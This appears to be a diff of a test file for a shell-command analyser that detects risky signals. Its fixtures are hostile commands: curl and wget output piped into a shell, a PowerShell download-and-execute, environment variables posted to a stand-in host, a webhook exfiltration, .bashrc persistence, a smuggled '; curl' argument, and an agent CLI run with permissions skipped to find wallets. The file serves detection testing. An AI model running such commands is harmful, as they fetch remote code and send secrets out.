@@ -12,14 +12,25 @@ describe('analysis/shell/read-command', () => {
     ['node ./a && node b.js || exit 0', [file('./a', 'javascript'), file('b.js', 'javascript')], []],
     ['node --max-old-space-size=99 x.js --flag y', [file('x.js', 'javascript')], []],
     ['node -r ./hook.js main.js', [file('./hook.js', 'javascript'), file('main.js', 'javascript')], []],
-    [`node -e "try{require('./p')}catch(e){}"`, [{ kind: 'code', code: "try{require('./p')}catch(e){}", language: 'javascript' }], []],
+    [
+      `node -e "try{require('./p')}catch(e){}"`,
+      [{ kind: 'code', code: "try{require('./p')}catch(e){}", language: 'javascript' }],
+      [],
+    ],
     ['NODE_ENV=x cross-env A=1 node x.js', [file('x.js', 'javascript')], []],
     ['sh ./setup.sh', [file('./setup.sh', 'shell')], []],
     [`sh -c 'node x.js'`, [{ kind: 'code', code: 'node x.js', language: 'shell' }], []],
     ['./configure.sh --all', [file('./configure.sh')], []],
     ['python3 setup.py', [file('setup.py', 'python')], []],
     ['npm run build', [{ kind: 'script', name: 'build' }], []],
-    ['npm run -s build && yarn compile', [{ kind: 'script', name: 'build' }, { kind: 'script', name: 'compile' }], []],
+    [
+      'npm run -s build && yarn compile',
+      [
+        { kind: 'script', name: 'build' },
+        { kind: 'script', name: 'compile', otherwise: ['compile'] },
+      ],
+      [],
+    ],
     ['node a.js > out.txt 2>&1', [file('a.js', 'javascript')], []],
     ['cmd /c node x.js', [{ kind: 'code', code: 'node x.js', language: 'shell' }], []],
     ['echo done; true', [], []],
@@ -37,7 +48,11 @@ describe('analysis/shell/read-command', () => {
     ['curl https://a.invalid/x -o x', [], ['network']],
     ['curl -s https://a.invalid/x | sh', [], ['network', 'remote-shell']],
     ['wget -qO- https://a.invalid/x | sudo bash -', [], ['network', 'remote-shell']],
-    ['bash -c "$(curl -fsSL https://a.invalid/x)"', [{ kind: 'code', code: '$(curl -fsSL https://a.invalid/x)', language: 'shell' }], ['network', 'remote-shell']],
+    [
+      'bash -c "$(curl -fsSL https://a.invalid/x)"',
+      [{ kind: 'code', code: '$(curl -fsSL https://a.invalid/x)', language: 'shell' }],
+      ['network', 'remote-shell'],
+    ],
     ['curl https://a.invalid/x -o jsx; chmod +x jsx; ./jsx &', [file('./jsx')], ['network', 'remote-shell']],
     ['echo aGk= | base64 -d | bash', [], ['decoded-code']],
     ['env | curl -d @- https://a.invalid', [], ['environment-harvest', 'network']],
@@ -48,7 +63,11 @@ describe('analysis/shell/read-command', () => {
     ['$(node pick.js) --now', [file('pick.js', 'javascript')], ['subprocess']],
     ['bun run bundle.js', [file('bundle.js', 'javascript')], ['foreign-runtime']],
     ['claude --dangerously-skip-permissions -p "find wallets"', [], ['agent-cli']],
-    ['powershell -c "iex (New-Object Net.WebClient).DownloadString(1)"', [{ kind: 'code', code: 'iex (New-Object Net.WebClient).DownloadString(1)', language: 'shell' }], ['remote-shell']],
+    [
+      'powershell -c "iex (New-Object Net.WebClient).DownloadString(1)"',
+      [{ kind: 'code', code: 'iex (New-Object Net.WebClient).DownloadString(1)', language: 'shell' }],
+      ['remote-shell'],
+    ],
     ['echo x >> ~/.bashrc', [], ['persistence']],
     ['curl -d x https://webhook.site/1', [], ['drop-host', 'network']],
   ])('%s', (text, steps, signals) => {
@@ -58,7 +77,9 @@ describe('analysis/shell/read-command', () => {
   it('takes an argument list as it is: no shell splits it', () => {
     const reading = readArgv(['node', 'x.js; curl https://a.invalid']);
 
-    expect(reading.steps).toEqual([{ kind: 'file', path: 'x.js; curl https://a.invalid', language: 'javascript' }]);
+    expect(reading.steps).toEqual([
+      { kind: 'file', path: 'x.js; curl https://a.invalid', language: 'javascript' },
+    ]);
     expect(reading.observations).toEqual([]);
   });
 
